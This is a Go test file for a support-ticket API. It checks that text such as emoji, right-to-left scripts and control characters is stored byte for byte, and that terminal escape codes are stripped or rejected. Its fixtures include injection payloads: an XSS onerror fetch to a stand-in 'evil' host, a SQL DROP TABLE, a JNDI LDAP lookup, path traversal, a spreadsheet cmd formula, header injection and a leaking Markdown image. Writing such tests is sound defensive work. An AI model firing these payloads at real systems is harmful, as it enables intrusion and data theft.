package api_test

import (
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/supportbackend/support/gen/client"
	"github.com/supportbackend/support/internal/testing/apitest"
	"github.com/supportbackend/support/internal/testing/desk"
)

// lines are single-line texts that must come back byte for byte.
var lines = map[string]string{
	"a family of joined emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽",
	"Arabic":                   "مرحبا، فاتورتي خاطئة ٤٧١١",
	"Hebrew with points":       "שָׁלוֹם",
	"composed letters":         "\u00e9\u00f1\u212b",
	"decomposed letters":       "e\u0301n\u0303A\u030a",
	"CJK":                      "請求書が違います 发票错误",
	"CJK of four bytes":        "𠀋𡈽𠮷",
	"a script":                 "<script>alert(1)</script>",
	"an image of a stranger":   `<img src=x onerror="fetch('//evil')">`,
	"SQL":                      "'; DROP TABLE tickets; --",
	"a lookup":                 "${jndi:ldap://evil/a}",
	"a template":               "{{7*7}} <%= 7*7 %> #{7*7}",
	"format verbs":             "%s%n%x%d%!v(MISSING)",
	"the word null":            "null",
	"the word undefined":       "undefined",
	"the word NaN":             "NaN",
	"a path":                   `../../etc/passwd C:\Windows\`,
	"JSON":                     `{"is_ai":true,"role":"admin"}`,
	"quotes and backslashes":   `"\"\\u0000\\"`,
	"a zero-width space":       "a\u200bb\u200dc\ufeffd",
	"a replacement character":  "\ufffd",
	"spaces around it":         "  two spaces before and after  ",
	"the last code point":      "\U0010fffd",
}

// blocks are multi-line texts.
var blocks = map[string]string{
	"tabs and line breaks":    "\ta\n\tb\r\nc\rd\n\n",
	"an event of a stream":    "x\n\nevent: done\ndata: {}\n\n",
	"a header":                "a\r\nSet-Cookie: a=b",
	"turned writing":          "a\u202eb\u2066c",
	"a formula":               "=cmd|' /C calc'!A0\n+1",
	"Markdown with an image":  "![](http://evil/?q=1)\n# Title",
	"hundreds of empty lines": "a" + strings.Repeat("\n", 500) + "b",
}

func TestTextIsKeptByteForByte(t *testing.T) {
	t.Parallel()
	s := desk.New(t, desk.Options{})
	customer := s.Customer(t)
	for name, line := range lines {
		t.Run(name, func(t *testing.T) {
			requireKept(t, customer, line, line)
		})
	}
	for name, block := range blocks {
		t.Run(name, func(t *testing.T) {
			requireKept(t, customer, "A title", block)
		})
	}
}

func requireKept(t *testing.T, customer *apitest.User, title, text string) {
	t.Helper()
	created, err := customer.CreateTicketWithResponse(t.Context(), nil, client.CreateTicketRequest{
		Title: title, Description: text,
	})
	require.NoError(t, err)
	require.Equal(t, http.StatusCreated, created.StatusCode(), "%s", created.Body)
	require.Equal(t, title, created.JSON201.Title)
	require.Equal(t, text, created.JSON201.Description)
	id := created.JSON201.ID
	require.Equal(t, text, customer.Say(t, id, text).Content)

	got, err := customer.GetTicketWithResponse(t.Context(), id, nil)
	require.NoError(t, err)
	require.Equal(t, http.StatusOK, got.StatusCode(), "%s", got.Body)
	require.Equal(t, title, got.JSON200.Title)
	require.Equal(t, text, got.JSON200.Description)
	require.Equal(t, text, got.JSON200.Messages[0].Content)
	listed, err := customer.ListMessagesWithResponse(t.Context(), id, nil)
	require.NoError(t, err)
	require.Equal(t, http.StatusOK, listed.StatusCode(), "%s", listed.Body)
	require.Equal(t, text, (*listed.JSON200)[0].Content)
}

func TestPastedTextKeepsItsVisibleCharacters(t *testing.T) {
	t.Parallel()
	s := desk.New(t, desk.Options{})
	customer := s.Customer(t)
	for name, pasted := range map[string]struct{ given, want string }{
		"line breaks of word processors": {"a\vb\fc\u2028d\u2029e\u0085f", "a\nb\nc\nd\ne\nf"},
		"other line breaks":              {"a\r\nb\rc\nd\te", "a\r\nb\rc\nd\te"},
		"colours":                        {"\x1b[1;31merror\x1b[0m: \x1b[38;2;1;2;3mno\x1b[m", "error: no"},
		"where the cursor goes":          {"a\x1b[2K\x1b[?25l\x1b7b\x1b8", "ab"},
		"a title and a link":             {"\x1b]0;make\a$ \x1b]8;;https://example.com\x1b\\docs\x1b]8;;\x1b\\", "$ docs"},
		"a character set":                {"\x1b(Ba", "a"},
		"brackets":                       {"[31m ]0;a ^[[0m", "[31m ]0;a ^[[0m"},
	} {
		body := encode(t, map[string]string{"title": "A title", "description": pasted.given})
		created := customer.Do(t, http.MethodPost, "/tickets", body, jsonType, "Idempotency-Key: "+strings.ReplaceAll(name, " ", "-"))
		require.Equal(t, http.StatusCreated, created.Status, "%s: %s", name, created.Body)
		require.Contains(t, string(created.Body), `"description":`+encode(t, pasted.want), name)
		again := customer.Do(t, http.MethodPost, "/tickets", body, jsonType, "Idempotency-Key: "+strings.ReplaceAll(name, " ", "-"))
		require.Equal(t, "true", again.Header.Get("Idempotency-Replayed"), name)
		id := strings.TrimPrefix(created.Header.Get("Location"), "/tickets/")
		said := customer.Do(t, http.MethodPost, "/tickets/"+id+"/messages", encode(t, map[string]string{"content": pasted.given}), jsonType)
		require.Equal(t, http.StatusCreated, said.Status, "%s: %s", name, said.Body)
		require.Contains(t, string(said.Body), `"content":`+encode(t, pasted.want), name)
	}
	for _, broken := range []string{"\x1b", "a\x1b[3", "\x1b[\n1m", "\x1b]0;title", "\x1bHello", "\x1b]0;a\nb\a", "\u009b31m", "\x1b[0m\x1b"} {
		r := customer.Do(t, http.MethodPost, "/tickets", encode(t, map[string]string{"title": "A title", "description": broken}), jsonType)
		requireRefused(t, r, http.StatusUnprocessableEntity, client.ProblemCodeValidationFailed, "/description invalid_characters")
	}
	for given, want := range map[string]string{"\v": "invalid_format", "\x1b[0m\u2028": "invalid_format", "\x1b[0m": "too_short"} {
		r := customer.Do(t, http.MethodPost, "/tickets", encode(t, map[string]string{"title": "A title", "description": given}), jsonType)
		problem := r.RequireProblem(t, http.StatusUnprocessableEntity, client.ProblemCodeValidationFailed)
		require.Equal(t, want, string(problem.Errors[0].Code), "%q", given)
	}
}

func TestTitleLosesTerminalColors(t *testing.T) {
	t.Parallel()
	s := desk.New(t, desk.Options{})
	customer := s.Customer(t)
	r := customer.Do(t, http.MethodPost, "/tickets", `{"title":"\u001b[31mFAIL\u001b[0m build","description":"a"}`, jsonType)
	require.Equal(t, http.StatusCreated, r.Status, "%s", r.Body)
	require.Contains(t, string(r.Body), `"title":"FAIL build"`)
	for _, character := range []string{"\v", "\f", "\u2028", "\u2029", "\u0085", "\n"} {
		r := customer.Do(t, http.MethodPost, "/tickets", encode(t, map[string]string{"title": "a" + character + "b", "description": "a"}), jsonType)
		requireRefused(t, r, http.StatusUnprocessableEntity, client.ProblemCodeValidationFailed, "/title invalid_characters")
	}
}
